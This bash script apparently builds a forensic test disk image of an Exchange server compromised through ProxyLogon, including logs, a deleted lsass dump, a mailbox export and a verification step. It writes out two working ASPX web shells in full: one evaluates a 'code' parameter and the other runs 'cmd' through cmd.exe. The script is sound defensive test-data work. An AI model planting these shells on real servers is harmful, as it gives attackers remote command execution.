#!/usr/bin/env bash
# make-proxylogon-image.sh [OUTDIR]
#
# Builds test-images/proxylogon.raw.gz, the image the log and ProxyLogon-check tests read
# (issue 14), with the real tools and frozen clock of make-test-images.sh (whose helpers it
# sources). An Exchange 2016 CU19 server attacked through ProxyLogon on 2021-03-02 and
# patched on 2021-03-04 12:00, with the server's own logs written by
# scripts/proxylogon_logs.py (format sources and the full story there):
#   inetpub/wwwroot/aspnet_client/abc.aspx   02:51:33 on 03-02: the OAB virtual directory
#       settings dump with a script in ExternalUrl (CVE-2021-27065), 2 s after the
#       ResetOABVirtualDirectory request; requested 02:52:02 .. 03-05 10:00:00.
#   Program Files/.../owa/auth/outlookfix.aspx   03-05 10:00:03, after the patch: dropped
#       through abc.aspx by 198.51.100.23 (POST at 10:00:00), requested 10:05 and 10:06.
#   ProgramData/lsass.dmp   an MDMP minidump born 03-02 08:00:05 (5 s after a request to
#       abc.aspx), deleted 09:00:00; ProgramData/out.7z (7-Zip) and
#       aspnet_client/system_web/export.pst (a mailbox export in a web-reachable folder).
#   inetpub/logs/LogFiles/W3SVC1/u_ex2103{01,02,04,05}.log: 03-03 is missing; 03-05 changes
#       its #Fields at 09:00.
#   V15/Logging/HttpProxy/{Owa,Ecp}, ECP/Server, OABGeneratorLog: the rows of
#       CVE-2021-26855, -27065 and -26858.
#   Windows/System32/winevt/Logs/{Application,MSExchange Management}.evtx, written by
#       scripts/evtx_writer.py from scripts/proxylogon-evtx/*.json: the Unified Messaging
#       crash of CVE-2021-26857 (03-02 02:50:58.625), Set-OabVirtualDirectory with a script in
#       ExternalUrl (CVE-2021-27065, 02:51:31.118, 2 s before abc.aspx), a benign
#       Set-OwaVirtualDirectory (02-15) and New-MailboxExportRequest to
#       aspnet_client/system_web/export.pst (08:19:52.5, before the .pst's birth at 08:20).
# fls -r -p and its bodyfile are stored in test-images/expected/ for the tests.
#
# Requirements: those of make-test-images.sh (root, /dev/fuse, ntfs-3g, libfaketime, TSK).
set -euo pipefail
MAKE_TEST_IMAGES_HELPERS_ONLY=1 source "$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)/make-test-images.sh" "${1:-}"

img=$WORK/proxylogon.raw
WR=inetpub/wwwroot
AC=$WR/aspnet_client
EX="Program Files/Microsoft/Exchange Server/V15"
OWA="$EX/FrontEnd/HttpProxy/owa/auth"
LOGS=$WORK/logs
W3=inetpub/logs/LogFiles/W3SVC1
XL="$EX/Logging"
EVTX_DIR=Windows/System32/winevt/Logs

python3 "$SCRIPT_DIR/proxylogon_logs.py" "$LOGS"
py random "$WORK/random16k" 16384   # (a file: reopening /dev/stdout would truncate the output)

OAB_SHELL='Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://exch01.contoso.local/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         :
ExtendedProtectionSPNList       :
AdminDisplayVersion             : Version 15.1 (Build 2176.2)
Server                          : EXCH01
InternalUrl                     : https://exch01.contoso.local/OAB
InternalAuthenticationMethods   : WindowsIntegrated
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>
ExternalAuthenticationMethods   : WindowsIntegrated
'
CMD_SHELL='<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %><script runat="server">
void Page_Load(object s, EventArgs e) {
  var p = new ProcessStartInfo("cmd.exe", "/c " + Request["cmd"]);
  p.RedirectStandardOutput = true; p.UseShellExecute = false;
  Response.Write(Process.Start(p).StandardOutput.ReadToEnd());
}
</script>'

# put_log SRC DEST FIRST LAST: a log file born at its first row's time, written by its last.
put_log() {
    at "$3"; : > "$2"
    at "$4"; cat "$1" > "$2"
}

log "proxylogon.raw: mkntfs"
at "2021-01-10 08:00:00"
mkfs_ntfs "$img" 24M PROXYLOGON 0

ntfs_mount "$img"
(
    cd "$MNT"
    at "2021-01-10 09:00:00.1111111"   # Exchange 2016 CU19 installed
    mkdir -p "$OWA/15.1.2176" "$EX/Bin" "$AC/system_web" "$W3" ProgramData \
        "$XL/HttpProxy/Owa" "$XL/HttpProxy/Ecp" "$XL/ECP/Server" "$XL/OABGeneratorLog" "$EVTX_DIR"
    printf '<html><body>IIS</body></html>\r\n' > "$WR/iisstart.htm"
    printf '<%%@ Page Language="C#" %%><html><body>sign in</body></html>\r\n' > "$OWA/logon.aspx"
    printf '<%%@ Page Language="C#" %%><html><body>error</body></html>\r\n' > "$OWA/errorFE.aspx"
    for i in 01 02 03 04 05 06 07 08; do printf 'binary %s\r\n' "$i" > "$EX/Bin/Microsoft.Exchange.Part$i.dll"; done

    put_log "$LOGS/iis/u_ex210301.log" "$W3/u_ex210301.log" "2021-03-01 00:00:04" "2021-03-01 17:40:09"
    put_log "$LOGS/httpproxy/Owa/HttpProxy_2021030108-1.LOG" "$XL/HttpProxy/Owa/HttpProxy_2021030108-1.LOG" \
        "2021-03-01 08:15:31" "2021-03-01 08:15:32.1040000"

    # 2021-03-02: the attack
    put_log "$LOGS/httpproxy/Ecp/HttpProxy_2021030202-1.LOG" "$XL/HttpProxy/Ecp/HttpProxy_2021030202-1.LOG" \
        "2021-03-02 02:51:10" "2021-03-02 09:12:44.0200000"
    put_log "$LOGS/ecp/ECPServer2021030202-1.LOG" "$XL/ECP/Server/ECPServer2021030202-1.LOG" \
        "2021-03-02 02:51:25" "2021-03-02 02:51:31.1180000"
    at "2021-03-02 02:51:33.0000000"
    printf '%s' "$OAB_SHELL" > "$AC/abc.aspx"
    put_log "$LOGS/oab/OABGenerator_2021030202-1.LOG" "$XL/OABGeneratorLog/OABGenerator_2021030202-1.LOG" \
        "2021-03-02 02:51:33.5000000" "2021-03-02 02:51:33.9040000"
    at "2021-03-02 08:00:05.0000000"
    { printf 'MDMP\x93\xa7\x00\x00'; cat "$WORK/random16k"; } > ProgramData/lsass.dmp
    at "2021-03-02 08:10:00.0000000"
    { printf '7z\xbc\xaf\x27\x1c\x00\x04'; head -c 4096 "$WORK/random16k"; } > ProgramData/out.7z
    at "2021-03-02 08:20:00.0000000"
    { printf '!BDN'; head -c 4096 "$WORK/random16k"; } > "$AC/system_web/export.pst"
    at "2021-03-02 09:00:00.0000000"
    rm ProgramData/lsass.dmp
    put_log "$LOGS/iis/u_ex210302.log" "$W3/u_ex210302.log" "2021-03-02 00:00:12" "2021-03-02 09:12:44"

    # 2021-03-03: no IIS log.  2021-03-04: the March 2021 SU at 12:00.
    put_log "$LOGS/iis/u_ex210304.log" "$W3/u_ex210304.log" "2021-03-04 00:01:00" "2021-03-04 13:30:00"
    at "2021-03-04 12:00:00.5555555"
    mkdir "$OWA/15.1.2176.9"
    for i in 01 02 03 04; do printf 'patched %s\r\n' "$i" > "$EX/Bin/Microsoft.Exchange.Part$i.dll"; done

    # 2021-03-05: a second shell dropped through the first, after the patch.
    at "2021-03-05 10:00:03.0000000"
    printf '%s' "$CMD_SHELL" > "$OWA/outlookfix.aspx"
    put_log "$LOGS/iis/u_ex210305.log" "$W3/u_ex210305.log" "2021-03-05 00:02:00" "2021-03-05 16:45:10"

    if [ -f "$SCRIPT_DIR/evtx_writer.py" ]; then
        # The event logs, from scripts/proxylogon-evtx/<log>.json (our writer; the same events
        # as test-images/evtx/proxylogon.evtx.gz): written whole, as a copy taken from the
        # server at the end of the story would be.
        at "2021-03-05 17:00:00"
        for evtx_log in Application "MSExchange Management"; do
            python3 "$SCRIPT_DIR/evtx_writer.py" "$SCRIPT_DIR/proxylogon-evtx/$evtx_log.json" "$WORK/$evtx_log.evtx"
            cat "$WORK/$evtx_log.evtx" > "$EVTX_DIR/$evtx_log.evtx"
        done
    fi
)
ntfs_umount

entry_of() { ifind -n "$1" "$img"; }
fls -r -p "$img" > "$WORK/proxylogon.raw.fls.txt"
for p in "$AC/abc.aspx" "$OWA/outlookfix.aspx" "$W3/u_ex210302.log" "$XL/OABGeneratorLog/OABGenerator_2021030202-1.LOG"; do
    grep -q "	$p$" "$WORK/proxylogon.raw.fls.txt" || die "VERIFY FAILED: fls does not list $p"
done
grep -q "^-/r \* [0-9-]*:	ProgramData/lsass.dmp$" "$WORK/proxylogon.raw.fls.txt" || die "VERIFY FAILED: lsass.dmp is not listed deleted"
lsass=$(sed -n 's/^-\/r \* \([0-9]*\)-.*ProgramData\/lsass.dmp$/\1/p' "$WORK/proxylogon.raw.fls.txt")
icat -r "$img" "$lsass" > "$WORK/lsass.dmp"
[ "$(head -c 4 "$WORK/lsass.dmp")" = MDMP ] || die "VERIFY FAILED: the deleted lsass.dmp ($lsass) is not recoverable"
fls -r -p -m / "$img" > "$WORK/proxylogon.raw.fls.body"

gzip -9 -n -c "$img" > "$OUTDIR/proxylogon.raw.gz"
mkdir -p "$OUTDIR/expected"
cp "$WORK/proxylogon.raw.fls.txt" "$WORK/proxylogon.raw.fls.body" "$OUTDIR/expected/"
log "proxylogon.raw.gz: $(stat -c %s "$OUTDIR/proxylogon.raw.gz") bytes"
